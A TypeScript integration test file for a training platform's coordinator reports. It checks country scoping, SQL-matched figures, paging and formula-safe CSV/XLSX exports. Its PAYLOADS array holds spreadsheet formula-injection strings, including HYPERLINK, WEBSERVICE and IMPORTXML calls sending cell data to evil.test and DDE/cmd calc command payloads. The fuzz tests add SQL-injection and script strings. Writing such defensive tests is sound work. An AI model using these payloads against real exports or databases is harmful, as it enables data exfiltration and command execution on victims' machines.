import type { AppLoadContext } from "@remix-run/node";
import ExcelJS from "exceljs";
import fc from "fast-check";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { followPlan, moveBack, takeQuiz } from "../../db/seeds/demo-learners";
import { loadContent } from "../../app/content/load.server";
import type { Catalog } from "../../app/content/model";
import { recordView } from "../../app/models/learning/record.server";
import { learnerBatches } from "../../app/models/reports/learners.server";
import { parseListQuery } from "../../app/reports/filters";
import type { FinishedAttempt } from "../../app/machines/quiz-attempt";
import { outcome, signedInRequest, testContext } from "../setup/context";
import { makeCohort, makeInstitution, makePerson } from "../setup/factories";
import { openTestDb, type TestDb } from "../setup/test-db";
import { parseCsv } from "../setup/csv";

// Coordinator reports on a seeded data set: scope (a coordinator of Guatemala never sees a
// Mexican officer), figures equal to direct SQL counts, exports that never run a formula.

let t: TestDb;
let catalog: Catalog;
const ids = {} as Record<"gtCoordinator" | "admin" | "mexican" | "cohortA" | "cohortMx" | "instMx" | "instGt", string>;
const gtOfficers: string[] = [];

// Formula-looking text as names, institution and cohort names: every one must come out inert.
const PAYLOADS = [
  '=HYPERLINK("http://evil.test/?x="&A1,"Ver")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "=1+1",
  "=cmd|' /C notepad'!'A1'",
  "+1",
  "-1",
  "@A1",
  "=WEBSERVICE(\"http://evil.test\")",
  "=IMPORTXML(CONCAT(\"http://evil.test/?\",A1),\"//a\")",
  "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
  "-@SUM(1)",
  "+@SUM(1)",
  "=2+5+cmd|' /C calc'!A0",
  "@=cmd",
  "=\"María\"&\"José\"",
  "-=cmd",
  "\t\t=1",
  "=HYPERLINK(\"javascript:alert(1)\")",
];

const context = (): AppLoadContext => testContext(t.db, { content: catalog });

async function run(route: string, who: string, url: string, params: Record<string, string> = {}) {
  const { loader } = await import(`../../app/routes/${route}`);
  return outcome(async () => loader({ request: await signedInRequest(t.db, who, url), context: context(), params }));
}

beforeAll(async () => {
  t = await openTestDb();
  catalog = loadContent("content/courses").catalog;
  ids.instMx = await makeInstitution(t.db, "MX", "Instituto Nacional de Migración");
  ids.instGt = await makeInstitution(t.db, "GT", PAYLOADS[0]);
  ids.cohortA = await makeCohort(t.db, PAYLOADS[1]);
  ids.cohortMx = await makeCohort(t.db, "Grupo México");
  const past = "2020-01-31";
  await t.db
    .insertInto("cohort_courses")
    .values([
      { cohort_id: ids.cohortA, course_id: "vulnerability-referral", due_on: past },
      { cohort_id: ids.cohortA, course_id: "trafficking-smuggling", due_on: "2099-12-31" },
      { cohort_id: ids.cohortMx, course_id: "vulnerability-referral", due_on: null },
    ])
    .execute();
  ids.gtCoordinator = (await makePerson(t.db, { role: "coordinator", scope: { kind: "country", code: "GT" } })).id;
  ids.admin = (await makePerson(t.db, { role: "admin" })).id;
  // A Mexican officer in the same cohort as the Guatemalans, with progress of their own.
  ids.mexican = (await makePerson(t.db, { cohortId: ids.cohortA, countryCode: "MX", institutionId: ids.instMx, name: "Mexicano Visible Nunca" })).id;
  await t.db.insertInto("cohort_members").values({ cohort_id: ids.cohortMx, person_id: ids.mexican, role: "officer" }).execute();
  await followPlan(t.db, catalog, ids.mexican, catalog.courses.get("vulnerability-referral")!, { course: "vulnerability-referral", kind: "complete" }, Date.now());

  // Guatemalans: the payload names, and a spread of progress.
  for (const [index, name] of PAYLOADS.entries()) {
    const id = (await makePerson(t.db, { cohortId: ids.cohortA, countryCode: "GT", institutionId: index % 2 ? ids.instGt : undefined })).id;
    // Stored as given (an import or another tool may not trim), leading tab and CR included.
    await t.db.updateTable("people").set({ display_name: name }).where("id", "=", id).execute();
    gtOfficers.push(id);
  }
  const vr = catalog.courses.get("vulnerability-referral")!;
  await followPlan(t.db, catalog, gtOfficers[0]!, vr, { course: vr.id, kind: "complete" }, Date.now() - 10 * 86_400_000);
  await moveBack(t.db, gtOfficers[0]!, 10);
  await followPlan(t.db, catalog, gtOfficers[1]!, vr, { course: vr.id, kind: "complete" }, Date.now());
  await followPlan(t.db, catalog, gtOfficers[2]!, vr, { course: vr.id, kind: "partial", items: 5, failFirstQuiz: true }, Date.now());
  await followPlan(t.db, catalog, gtOfficers[3]!, vr, { course: vr.id, kind: "partial", items: 2 }, Date.now());
  await recordView(t.db, gtOfficers[4]!, "trafficking-smuggling", "what-is-trafficking", "lesson");
  // One failed attempt at the final exam (a score below the pass mark, nothing completed).
  await takeQuiz(t.db, catalog, gtOfficers[5]!, vr, "final-exam", "wrong", Date.now());
}, 120_000);
afterAll(async () => t.close());

async function csvOf(response: Response) {
  const bytes = new Uint8Array(await response.arrayBuffer());
  expect([...bytes.slice(0, 3)], "UTF-8 byte-order mark").toEqual([0xef, 0xbb, 0xbf]);
  return parseCsv(new TextDecoder().decode(bytes.slice(3)));
}

async function xlsxOf(response: Response) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await response.arrayBuffer());
  return workbook;
}

const SQL_COUNTS = (country: string | null) => sql<{ enrolled: number; not_started: number; in_progress: number; completed: number; passed_final: number; certified: number; overdue: number }>`
  select count(*)::int as enrolled,
    count(*) filter (where cp.person_id is null)::int as not_started,
    count(*) filter (where cp.person_id is not null and cp.completed_at is null)::int as in_progress,
    count(*) filter (where cp.completed_at is not null)::int as completed,
    count(*) filter (where exists (select 1 from item_progress ip where ip.person_id = cm.person_id and ip.course_id = cc.course_id and ip.item_id = 'final-exam' and ip.completed_at is not null))::int as passed_final,
    count(*) filter (where exists (select 1 from certificates c where c.person_id = cm.person_id and c.course_id = cc.course_id and c.revoked_at is null))::int as certified,
    count(*) filter (where cc.due_on < current_date and cp.completed_at is null)::int as overdue
  from cohort_members cm
  join cohort_courses cc on cc.cohort_id = cm.cohort_id
  join people p on p.id = cm.person_id
  left join course_progress cp on cp.person_id = cm.person_id and cp.course_id = cc.course_id
  where cm.role = 'officer' and (${country}::text is null or p.country_code = ${country})`;

describe(`coordinator scope (${process.env.SENDERO_TEST_ENGINE})`, () => {
  it("lists no Mexican officer to a coordinator of Guatemala, but the admin sees them", async () => {
    const gt = (await (await run("coordinate.learners._index", ids.gtCoordinator, "/coordinate/learners")).json()) as { rows: { personId: string }[]; total: number };
    expect(gt.rows.length).toBeGreaterThan(0);
    expect(gt.rows.map((r) => r.personId)).not.toContain(ids.mexican);
    expect(gt.total).toBe(PAYLOADS.length * 2);
    const admin = (await (await run("coordinate.learners._index", ids.admin, "/coordinate/learners?country=MX")).json()) as { rows: { personId: string }[] };
    expect(admin.rows.map((r) => r.personId)).toContain(ids.mexican);
    // Searching for the name finds nothing in Guatemala's scope; a wildcard is taken literally.
    for (const q of ["Mexicano", "%", "\\"]) {
      const found = (await (await run("coordinate.learners._index", ids.gtCoordinator, `/coordinate/learners?q=${encodeURIComponent(q)}`)).json()) as { total: number };
      expect(found.total, q).toBe(0);
    }
    const byAdmin = (await (await run("coordinate.learners._index", ids.admin, "/coordinate/learners?q=mexicano")).json()) as { rows: { personId: string }[] };
    expect(byAdmin.rows.map((r) => r.personId)).toContain(ids.mexican);
  });

  it("refuses filters outside the scope with 404 (country, institution, cohort)", async () => {
    for (const query of ["country=MX", `institution=${ids.instMx}`, `cohort=${ids.cohortMx}`, "cohort=not-a-uuid", "course=no-such-course"]) {
      for (const route of ["coordinate._index", "coordinate.learners._index", "coordinate.items", "resources.report-learners", "resources.report-overview"]) {
        const response = await run(route, ids.gtCoordinator, `/x?${query}&format=csv`);
        expect(response.status, `${route}?${query}`).toBe(404);
      }
    }
    // A shared cohort is within reach, but still shows only the Guatemalans in it.
    const shared = (await (await run("coordinate.learners._index", ids.gtCoordinator, `/coordinate/learners?cohort=${ids.cohortA}`)).json()) as { rows: { personId: string }[] };
    expect(shared.rows.map((r) => r.personId)).not.toContain(ids.mexican);
  });

  it("answers 404 for a Mexican officer's page, as for someone who does not exist", async () => {
    expect((await run("coordinate.learners.$personId", ids.gtCoordinator, `/coordinate/learners/${ids.mexican}`, { personId: ids.mexican })).status).toBe(404);
    expect((await run("coordinate.learners.$personId", ids.gtCoordinator, `/coordinate/learners/${gtOfficers[0]}`, { personId: gtOfficers[0]! })).status).toBe(200);
    expect((await run("coordinate.learners.$personId", ids.admin, `/coordinate/learners/${ids.mexican}`, { personId: ids.mexican })).status).toBe(200);
  });

  it("leaves Mexican officers out of every export", async () => {
    for (const route of ["resources.report-learners", "resources.report-overview"]) {
      const csv = await csvOf(await run(route, ids.gtCoordinator, "/x?format=csv"));
      expect(JSON.stringify(csv)).not.toContain("Mexicano Visible Nunca");
      expect(JSON.stringify(csv)).not.toContain("Grupo México");
      const book = await xlsxOf(await run(route, ids.gtCoordinator, "/x?format=xlsx"));
      const cells: string[] = [];
      book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(String(cell.value)))));
      expect(cells.join("|")).not.toContain("Mexicano Visible Nunca");
      expect(cells.join("|")).not.toContain("Grupo México");
    }
    const learners = await csvOf(await run("resources.report-learners", ids.gtCoordinator, "/x?format=csv"));
    expect(learners.length - 1).toBe(PAYLOADS.length * 2);
  });
});

describe(`overview figures (${process.env.SENDERO_TEST_ENGINE})`, () => {
  it("equal direct SQL counts, for the coordinator's scope and for the admin", async () => {
    for (const [who, country] of [
      [ids.gtCoordinator, "GT"],
      [ids.admin, null],
    ] as const) {
      const page = (await (await run("coordinate._index", who, "/coordinate")).json()) as { totals: Record<string, number> };
      const direct = (await SQL_COUNTS(country).execute(t.db)).rows[0]!;
      expect(page.totals).toEqual({
        enrolled: direct.enrolled,
        notStarted: direct.not_started,
        inProgress: direct.in_progress,
        completed: direct.completed,
        passedFinal: direct.passed_final,
        certified: direct.certified,
        overdue: direct.overdue,
      });
    }
    const gt = (await (await run("coordinate._index", ids.gtCoordinator, "/coordinate")).json()) as { totals: Record<string, number> };
    // The seeded spread: 2 completed (with the final exam passed), 3 begun, the rest not started.
    expect(gt.totals).toMatchObject({ enrolled: 44, completed: 2, passedFinal: 2, inProgress: 3, overdue: 20 });
  });

  it("counts completions per week in the period, and the module funnel of a course", async () => {
    const data = (await (await run("coordinate._index", ids.gtCoordinator, "/coordinate?course=vulnerability-referral")).json()) as {
      completedInPeriod: number;
      weekly: { week: string; completed: number }[];
      funnel: { stage: string; count: number }[];
    };
    const direct = await sql<{ n: number }>`select count(*)::int as n from course_progress cp join people p on p.id = cp.person_id
      where p.country_code = 'GT' and cp.course_id = 'vulnerability-referral' and cp.completed_at is not null`.execute(t.db);
    expect(data.completedInPeriod).toBe(direct.rows[0]!.n);
    expect(data.weekly.filter((w) => w.completed > 0).length).toBeGreaterThanOrEqual(1);
    expect(data.funnel[0]).toMatchObject({ stage: "enrolled", count: 22 });
    expect(data.funnel[1]).toMatchObject({ stage: "started", count: 4 });
    expect(data.funnel.at(-1)).toMatchObject({ stage: "completed", count: 2 });
    // The first module: finished by the two who completed the course; failing its quiz leaves it unfinished.
    expect(data.funnel[2]).toMatchObject({ stage: "module", count: 2 });
    const before = await run("coordinate._index", ids.gtCoordinator, "/coordinate?from=2000-01-01&to=2000-01-31");
    expect(((await before.json()) as { completedInPeriod: number }).completedInPeriod).toBe(0);
  });

  it("matches the learner list's rows: status filters add up to the figures", async () => {
    const overviewData = (await (await run("coordinate._index", ids.gtCoordinator, "/coordinate")).json()) as { totals: Record<string, number> };
    for (const [status, key] of [
      ["not-started", "notStarted"],
      ["in-progress", "inProgress"],
      ["completed", "completed"],
      ["overdue", "overdue"],
    ] as const) {
      const list = (await (await run("coordinate.learners._index", ids.gtCoordinator, `/coordinate/learners?status=${status}`)).json()) as { total: number };
      expect(list.total, status).toBe(overviewData.totals[key]);
    }
  });

  it("filters the list by inactivity and by final-exam score", async () => {
    const list = async (query: string) => ((await (await run("coordinate.learners._index", ids.gtCoordinator, `/coordinate/learners?${query}`)).json()) as { total: number; rows: { score: number | null }[] });
    const overviewData = (await (await run("coordinate._index", ids.gtCoordinator, "/coordinate")).json()) as { totals: Record<string, number> };
    // Inactive since long ago: only those who never began; since tomorrow: everyone.
    expect((await list("inactiveSince=2000-01-01")).total).toBe(overviewData.totals.notStarted);
    const tomorrow = new Date(Date.now() + 86_400_000).toISOString().slice(0, 10);
    expect((await list(`inactiveSince=${tomorrow}`)).total).toBe(overviewData.totals.enrolled);
    const direct = await sql<{ best: number }>`select best_percent as best from quiz_results where person_id = ${gtOfficers[5]!} and quiz_id = 'final-exam'`.execute(t.db);
    const below = await list("scoreBelow=100");
    expect(below.total).toBe(1);
    expect(below.rows[0]!.score).toBe(direct.rows[0]!.best);
    expect((await list(`scoreBelow=${direct.rows[0]!.best + 1}`)).total).toBe(1);
    expect((await list(`scoreBelow=${Math.max(1, direct.rows[0]!.best)}`)).total).toBe(direct.rows[0]!.best === 0 ? 1 : 0);
  });

  it("pages and sorts the list without losing or repeating a row", async () => {
    const seen: string[] = [];
    for (let page = 1; page <= 2; page++) {
      const list = (await (await run("coordinate.learners._index", ids.gtCoordinator, `/coordinate/learners?sort=score&dir=desc&page=${page}`)).json()) as { rows: { personId: string; courseId: string; score: number | null }[] };
      seen.push(...list.rows.map((r) => `${r.personId}/${r.courseId}`));
      if (page === 1) expect(list.rows[0]!.score).toBeGreaterThanOrEqual(80);
    }
    expect(new Set(seen).size).toBe(44);
  });
});

/** Every enrolment with its facts, read plainly (one row each), to group in JavaScript. */
const ENROLMENT_FACTS = (country: string | null, from: string, to: string) => sql<{
  cohort_id: string; course_id: string; country_code: string | null; institution_id: string | null;
  started: boolean; completed: boolean; passed_final: boolean; certified: boolean; overdue: boolean; week: string | null;
}>`
  select cm.cohort_id, cc.course_id, p.country_code, p.institution_id,
    cp.person_id is not null as started, cp.completed_at is not null as completed,
    exists (select 1 from item_progress ip where ip.person_id = cm.person_id and ip.course_id = cc.course_id and ip.item_id = 'final-exam' and ip.completed_at is not null) as passed_final,
    exists (select 1 from certificates c where c.person_id = cm.person_id and c.course_id = cc.course_id and c.revoked_at is null) as certified,
    coalesce(cc.due_on < current_date and cp.completed_at is null, false) as overdue,
    case when cp.completed_at >= ${from}::date and cp.completed_at < ${to}::date + 1 then to_char(date_trunc('week', cp.completed_at at time zone 'UTC'), 'YYYY-MM-DD') end as week
  from cohort_members cm
  join cohort_courses cc on cc.cohort_id = cm.cohort_id
  join people p on p.id = cm.person_id
  left join course_progress cp on cp.person_id = cm.person_id and cp.course_id = cc.course_id
  where cm.role = 'officer' and (${country}::text is null or p.country_code = ${country})`;

type Fact = Awaited<ReturnType<ReturnType<typeof ENROLMENT_FACTS>["execute"]>>["rows"][number];

function countBy(facts: Fact[], key: (f: Fact) => string): Record<string, Record<string, number>> {
  const groups: Record<string, Record<string, number>> = {};
  for (const f of facts) {
    const g = (groups[key(f)] ??= { enrolled: 0, notStarted: 0, inProgress: 0, completed: 0, passedFinal: 0, certified: 0, overdue: 0 });
    g.enrolled! += 1;
    if (!f.started) g.notStarted! += 1;
    if (f.started && !f.completed) g.inProgress! += 1;
    if (f.completed) g.completed! += 1;
    if (f.passed_final) g.passedFinal! += 1;
    if (f.certified) g.certified! += 1;
    if (f.overdue) g.overdue! += 1;
  }
  return groups;
}

describe(`overview breakdowns (${process.env.SENDERO_TEST_ENGINE})`, () => {
  it("equal the enrolments grouped one by one: per cohort and course, country, institution and week", async () => {
    // One valid and one revoked certificate, so the certified column is exercised.
    const certificate = (personId: string, code: string, revoked: boolean) => ({
      code, person_id: personId, course_id: "vulnerability-referral", course_version: 1, locale: "es", holder_name: "x",
      course_title: JSON.stringify({ es: "x" }), minutes: 60, ...(revoked ? { revoked_at: new Date(), revoked_reason: "test" } : {}),
    });
    // (Completing a course may have issued them already.)
    await t.db.insertInto("certificates").values([certificate(gtOfficers[1]!, "BRKDWN-VALID", false), certificate(gtOfficers[0]!, "BRKDWN-REVOKED", true)]).onConflict((oc) => oc.columns(["person_id", "course_id"]).doNothing()).execute();
    await t.db.updateTable("certificates").set({ revoked_at: new Date(), revoked_reason: "test" }).where("person_id", "=", gtOfficers[0]!).execute();
    const metrics = (r: Record<string, unknown>) => ({ enrolled: r.enrolled, notStarted: r.notStarted, inProgress: r.inProgress, completed: r.completed, passedFinal: r.passedFinal, certified: r.certified, overdue: r.overdue });
    for (const [who, country] of [
      [ids.gtCoordinator, "GT"],
      [ids.admin, null],
    ] as const) {
      const page = (await (await run("coordinate._index", who, "/coordinate")).json()) as {
        query: { from: string; to: string };
        byCohortCourse: ({ cohortId: string; courseId: string } & Record<string, unknown>)[];
        byCountry: ({ countryCode: string | null } & Record<string, unknown>)[];
        byInstitution: ({ institutionId: string | null } & Record<string, unknown>)[];
        weekly: { week: string; completed: number }[];
        completedInPeriod: number;
      };
      const facts = (await ENROLMENT_FACTS(country, page.query.from, page.query.to).execute(t.db)).rows;
      expect(facts.length).toBeGreaterThan(0);
      const keyed = <R,>(rows: R[], key: (r: R) => string) => Object.fromEntries(rows.map((r) => [key(r), metrics(r as Record<string, unknown>)]));
      expect(keyed(page.byCohortCourse, (r) => `${r.cohortId}/${r.courseId}`)).toEqual(countBy(facts, (f) => `${f.cohort_id}/${f.course_id}`));
      expect(keyed(page.byCountry, (r) => String(r.countryCode))).toEqual(countBy(facts, (f) => String(f.country_code)));
      expect(keyed(page.byInstitution, (r) => String(r.institutionId))).toEqual(countBy(facts, (f) => String(f.institution_id)));
      const weeks: Record<string, number> = {};
      for (const f of facts) if (f.week) weeks[f.week] = (weeks[f.week] ?? 0) + 1;
      expect(Object.fromEntries(page.weekly.filter((w) => w.completed > 0).map((w) => [w.week, w.completed]))).toEqual(weeks);
      expect(page.completedInPeriod).toBe(Object.values(weeks).reduce((a, b) => a + b, 0));
      expect(Object.values(weeks).reduce((a, b) => a + b, 0)).toBeGreaterThan(0);
      expect(facts.some((f) => f.certified)).toBe(true);
      // Countries in code order, those without a country last.
      const codes = page.byCountry.map((r) => r.countryCode);
      expect(codes).toEqual([...codes].sort((a, b) => (a === null ? 1 : b === null ? -1 : a < b ? -1 : a > b ? 1 : 0)));
    }
  });
});

describe(`learner list total (${process.env.SENDERO_TEST_ENGINE})`, () => {
  it("counts every enrolment in scope, for everyone (global) as for one country", async () => {
    for (const who of [ids.admin, ids.gtCoordinator]) {
      const overviewData = (await (await run("coordinate._index", who, "/coordinate")).json()) as { totals: Record<string, number> };
      const list = (await (await run("coordinate.learners._index", who, "/coordinate/learners")).json()) as { total: number; rows: unknown[] };
      expect(list.total).toBe(overviewData.totals.enrolled);
      expect(list.rows.length).toBe(Math.min(list.total, 25));
    }
  });

  it("pages every sort without losing or repeating a row, cohort and institution names shown", async () => {
    for (const sort of ["name", "country", "institution", "cohort", "course", "status", "activity", "score"]) {
      for (const dir of ["asc", "desc"]) {
        const seen: string[] = [];
        for (let page = 1; page <= 2; page++) {
          const list = (await (await run("coordinate.learners._index", ids.gtCoordinator, `/coordinate/learners?sort=${sort}&dir=${dir}&page=${page}`)).json()) as { rows: { personId: string; courseId: string; cohort: string; institution: string | null }[] };
          seen.push(...list.rows.map((r) => `${r.personId}/${r.courseId}`));
          expect(list.rows.every((r) => r.cohort === PAYLOADS[1])).toBe(true);
        }
        expect(new Set(seen).size, `${sort} ${dir}`).toBe(44);
      }
    }
    const byInstitution = (await (await run("coordinate.learners._index", ids.gtCoordinator, "/coordinate/learners?sort=institution&dir=desc")).json()) as { rows: { institution: string | null }[] };
    // Descending puts those without an institution last: the first rows have the Guatemalan one.
    expect(byInstitution.rows[0]!.institution).not.toBeNull();
  });
});

describe(`exports never run a formula (${process.env.SENDERO_TEST_ENGINE})`, () => {
  it("prefixes every formula-looking cell of the CSV with a quote", async () => {
    for (const route of ["resources.report-learners", "resources.report-overview"]) {
      const rows = await csvOf(await run(route, ids.gtCoordinator, "/x?format=csv"));
      const cells = rows.flat();
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), route).toEqual([]);
    }
    const learners = (await csvOf(await run("resources.report-learners", ids.gtCoordinator, "/x?format=csv"))).flat();
    for (const payload of PAYLOADS) expect(learners, JSON.stringify(payload)).toContain(`'${payload}`);
    // The institution and cohort names too.
    expect(learners).toContain(`'${PAYLOADS[0]}`);
    expect(learners).toContain(`'${PAYLOADS[1]}`);
  });

  it("writes every name in the XLSX as a plain string, never a formula", async () => {
    const book = await xlsxOf(await run("resources.report-learners", ids.gtCoordinator, "/x?format=xlsx"));
    const sheet = book.worksheets[0]!;
    const found = new Set<string>();
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, String(cell.value)).not.toBe(ExcelJS.ValueType.Formula);
        // XML turns a carriage return into a line feed when read; it stays text either way.
        if (typeof cell.value === "string") found.add(cell.value.replace(/\r\n?/g, "\n"));
      }),
    );
    for (const payload of PAYLOADS) expect(found.has(payload.replace(/\r\n?/g, "\n")), JSON.stringify(payload)).toBe(true);
    expect(sheet.rowCount).toBe(1 + PAYLOADS.length * 2);
  });
});

describe(`read model and batches (${process.env.SENDERO_TEST_ENGINE})`, () => {
  it("keeps quiz_results in step with the stored quiz states", async () => {
    const states = await t.db.selectFrom("quiz_states").select(["person_id", "course_id", "quiz_id", "snapshot"]).execute();
    const results = await t.db.selectFrom("quiz_results").selectAll().execute();
    const expected = states
      .map((s) => ({ s, finished: ((s.snapshot as { context: { finished: FinishedAttempt[] } }).context.finished ?? []) }))
      .filter(({ finished }) => finished.length > 0)
      .map(({ s, finished }) => ({ key: `${s.person_id}/${s.course_id}/${s.quiz_id}`, attempts: finished.length, best: Math.max(...finished.map((a) => a.percent)), last: finished.at(-1)!.percent, passed: finished.some((a) => a.passed) }));
    const actual = results.map((r) => ({ key: `${r.person_id}/${r.course_id}/${r.quiz_id}`, attempts: r.attempts, best: r.best_percent, last: r.last_percent, passed: r.passed_at !== null }));
    const byKey = (a: { key: string }, b: { key: string }) => a.key.localeCompare(b.key);
    expect(expected.length).toBeGreaterThan(10);
    expect(actual.sort(byKey)).toEqual(expected.sort(byKey));
  });

  it("reads the export in keyset batches: every row once, in name order", async () => {
    const grants = [{ role: "coordinator" as const, scope_kind: "country" as const, country_code: "GT", institution_id: null, cohort_id: null }];
    const { query } = parseListQuery(new URLSearchParams(), new Date());
    const batches: number[] = [];
    const keys: string[] = [];
    const names: string[] = [];
    for await (const batch of learnerBatches(t.db, catalog, grants, query, 5)) {
      batches.push(batch.length);
      for (const row of batch) {
        keys.push(`${row.personId}/${row.cohortId}/${row.courseId}`);
        names.push(row.name.toLowerCase());
      }
    }
    expect(batches.length).toBe(Math.ceil(44 / 5));
    expect(new Set(keys).size).toBe(44);
    expect(keys).toHaveLength(44);
    // The database's collation orders the names; each batch continues where the last ended.
    const ordered = await sql<{ n: string }>`select lower(display_name) as n from people where country_code = 'GT' order by 1`.execute(t.db);
    expect([...new Set(names)]).toEqual([...new Set(ordered.rows.map((r) => r.n))]);
  });
});

describe(`item analysis (${process.env.SENDERO_TEST_ENGINE})`, () => {
  type Analysis = { quizzes: { quizId: string; attempts: number; questions: { questionId: string; answers: number; facility: number; optionCounts: { count: number }[] }[] }[] };
  it("counts the answers of learners in scope only, with facility and option counts", async () => {
    const url = "/coordinate/items?course=vulnerability-referral";
    const gt = (await (await run("coordinate.items", ids.gtCoordinator, url)).json()) as Analysis;
    const admin = (await (await run("coordinate.items", ids.admin, url)).json()) as Analysis;
    // The quiz of the first module, in course order.
    const firstQuiz = [...catalog.courses.get("vulnerability-referral")!.items.values()].find((i) => i.kind === "quiz")!.id;
    const gtQuiz = gt.quizzes.find((q) => q.quizId === firstQuiz)!;
    const adminQuiz = admin.quizzes.find((q) => q.quizId === firstQuiz)!;
    // Two Guatemalans passed it, one failed it; the Mexican's attempt counts only for the admin.
    expect(gtQuiz.attempts).toBe(3);
    expect(adminQuiz.attempts).toBe(4);
    for (const q of gtQuiz.questions) {
      expect(q.answers).toBe(3);
      expect(q.facility).toBeGreaterThanOrEqual(0);
      expect(q.facility).toBeLessThanOrEqual(1);
      if (q.optionCounts.length) expect(q.optionCounts.reduce((sum, o) => sum + o.count, 0)).toBeGreaterThanOrEqual(3);
    }
    expect(gtQuiz.questions.length).toBeGreaterThan(0);
  });
});

describe(`odd report URLs (${process.env.SENDERO_TEST_ENGINE})`, () => {
  it("never answer with a 500", async () => {
    for (const query of ["from=2026-02-30", "from=2026-12-01&to=2026-01-01", "status=%00", "sort=;drop table people", "page=-3", "dir=sideways", "country=%27%20or%201%3D1--", "format=pdf"]) {
      for (const route of ["coordinate._index", "coordinate.learners._index", "coordinate.items", "resources.report-learners"]) {
        const response = await run(route, ids.gtCoordinator, `/x?${query}`);
        expect(response.status, `${route}?${query}`).toBeLessThan(500);
      }
    }
  });
});

describe(`report URLs with odd parameters (${process.env.SENDERO_TEST_ENGINE})`, () => {
  const odd = fc.oneof(fc.string({ maxLength: 40 }), fc.constantFrom("", " ", "%00", "'; drop table people; --", "2026-02-30", "9999-99-99", "-1", "1e9", "GT", "MX", "vulnerability-referral", "<script>", "\u0000"));
  const params = fc.record(
    { cohort: odd, course: odd, country: odd, institution: odd, from: odd, to: odd, status: odd, sort: odd, dir: odd, page: odd, q: odd, format: fc.constantFrom("csv", "xlsx", "pdf", "") },
    { requiredKeys: [] },
  );
  it("never answer with a 500 and never show a Mexican officer", async () => {
    await fc.assert(
      fc.asyncProperty(params, fc.constantFrom("coordinate._index", "coordinate.learners._index", "coordinate.items", "resources.report-learners", "resources.report-overview"), async (fields, route) => {
        const response = await run(route, ids.gtCoordinator, `/x?${new URLSearchParams(fields as Record<string, string>)}`);
        expect(response.status, `${route} ${JSON.stringify(fields)}`).toBeLessThan(500);
        if (response.status === 200) expect(await response.text()).not.toContain("Mexicano Visible Nunca");
      }),
      // A fixed seed: the same URLs every run, so a failure can be replayed.
      { numRuns: 40, seed: 20261123 },
    );
  }, 120_000);
});
